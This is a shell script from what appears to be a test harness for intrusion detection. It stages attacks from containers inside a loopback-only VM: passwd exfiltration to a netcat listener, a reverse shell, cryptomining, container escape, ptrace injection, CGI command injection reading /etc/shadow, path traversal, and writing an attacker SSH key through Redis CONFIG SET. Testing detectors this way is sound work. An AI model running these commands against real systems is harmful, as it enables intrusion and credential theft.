# SPDX-License-Identifier: GPL-2.0
# The attacks, each from inside a container. Sourced by guest.sh after effects.sh.
#
# All of them stay in this virtual machine: the only network is loopback.

UPLOAD=/opt/upload
LOOT_PORT=9999
SHELL_PORT=4444
# A limit for what hangs.
ATTACK_SECONDS=60

# name | container | way in | after it the service is started afresh
ATTACKS='credentials|redis|new process|
port scan|nginx|new process|
miner|redis|new process|
container escape|nginx|new process|
reverse shell|nginx|new process|
ptrace injection|redis|new process|restart
module runs a shell|redis|service turned|restart
module searches files|redis|service turned|restart
worker runs a shell|nginx|service turned|restart'

# Nothing but the files is new.
PATH_ATTACKS='path traversal|nginx|other files|
key written|redis|other files|restart'
[ "$PATHS" = 0 ] || ATTACKS+=$'\n'$PATH_ATTACKS

# The service's own process does what other programs of its container do, or what it does
# itself to other files: caught in some runs, missed in others. With HARD=1 they count, too.
HARD_ATTACKS='module scans ports|redis|service turned|restart
worker reads processes|nginx|service turned|restart'
[ -z "${HARD:-}" ] || ATTACKS+=$'\n'$HARD_ATTACKS

# Somebody who takes what is sent, outside the containers.
start_listener() {
	: >/tmp/loot
	busybox nc -ll -p "$LOOT_PORT" -e busybox sh -c 'cat >>/tmp/loot' &
	await 10 nc -z 127.0.0.1 "$LOOT_PORT"
}

# looted TIMES PATTERN: has the listener got so many such lines since this try began?
looted() {
	[ "$(tail -c +$((LOOTED + 1)) /tmp/loot | grep -acE "$2")" -ge "$1" ]
}

# lacks TEXT: what an attack that had no effect says at last
lacks() {
	echo "no effect: $*"
	return 1
}

credentials() {
	inside redis 0:0 "$UPLOAD/credentials.sh" "$LOOT_PORT"
	await 20 looted 1 '^root:x:0' || lacks "the listener did not get passwd"
}

port_scan() {
	inside nginx 33:33 "$UPLOAD/port-scan" | grep '^open 80$' || lacks "it did not find port 80"
}

mine() {
	inside redis 100:101 "$UPLOAD/miner" "$LOOT_PORT" 20
	await 20 looted 20 submit || lacks "the pool did not get 20 reports"
}

container_escape() {
	inside nginx 0:0 "$UPLOAD/escape" | grep '^escape: [0-9]* tries' ||
		lacks "it did not get to its end"
}

reverse_shell() {
	typed /tmp/shell "$SHELL_PORT" 0 id 'uname -a' 'cat /etc/passwd' 'ls -la / /root /tmp' env \
		'find /etc -name "*.conf" | head' 'cat /proc/mounts' exit || lacks "nobody listens on port $SHELL_PORT" || return
	inside nginx 33:33 "$UPLOAD/reverse-shell.sh" "$SHELL_PORT"
	await 20 grep -q '^root:x:0' /tmp/shell || lacks "passwd did not come over the shell"
}

inject() {
	inside redis 100:101 "$UPLOAD/inject" redis-server /etc/passwd "$LOOT_PORT"
	await 20 looted 1 '^root:x:0' || lacks "the listener did not get passwd"
}

module_shell() {
	local mark

	mark=$(within redis /tmp/x)
	rm -f "$mark"
	redis_module
	redis-cli -e turn.shell 'id; cat /etc/passwd; ls -la / | head -n 5 >/tmp/x'
	[ -s "$mark" ] || lacks "the shell did not write /tmp/x"
}

module_search() {
	redis_module
	counted 100 redis-cli -e turn.search /usr/share || lacks "it did not get at 100 files"
}

module_scan() {
	redis_module
	counted 1 redis-cli -e turn.scan || lacks "it found no port"
}

worker_shell() {
	curl -s -G --data-urlencode 'cmd=id; cat /etc/shadow; ls -laR /etc | head -n 40' \
		http://127.0.0.1/cgi | grep 'uid=33' || lacks "id did not answer"
}

worker_reads() {
	counted 1 curl -s "http://127.0.0.1/cgi?port=$LOOT_PORT" || lacks "it read no file"
}

# The worker does what it always does, to files that it never read.
path_traversal() {
	local name names=()

	for name in machine-id hosts login.defs adduser.conf debian_version deluser.conf issue \
		ld.so.conf hostname host.conf; do
		names+=("http://127.0.0.1/brand../$name")
	done
	counted 3 eval "curl -s --path-as-is ${names[*]} ${names[*]} ${names[*]} | grep -c localhost" ||
		lacks "/etc/hosts did not come three times"
}

key_written() {
	local key

	key=$(within redis /var/tmp/authorized_keys)
	rm -f "$key"
	redis-cli -e config set dir /var/tmp
	redis-cli -e config set dbfilename authorized_keys
	redis-cli -e set key 'ssh-ed25519 AAAA attacker'
	redis_save save
	redis_save save
	grep -aq attacker "$key" || lacks "no key in /var/tmp/authorized_keys"
}

# attack NAME: carry it out. Each waits for its own effect, says what it saw, and fails where there
# was none.
attack() {
	LOOTED=$(stat -c %s /tmp/loot)
	case $1 in
	credentials) credentials ;;
	'port scan') port_scan ;;
	miner) mine ;;
	'container escape') container_escape ;;
	'reverse shell') reverse_shell ;;
	'ptrace injection') inject ;;
	'module runs a shell') module_shell ;;
	'module searches files') module_search ;;
	'module scans ports') module_scan ;;
	'worker runs a shell') worker_shell ;;
	'worker reads processes') worker_reads ;;
	'path traversal') path_traversal ;;
	'key written') key_written ;;
	esac
}
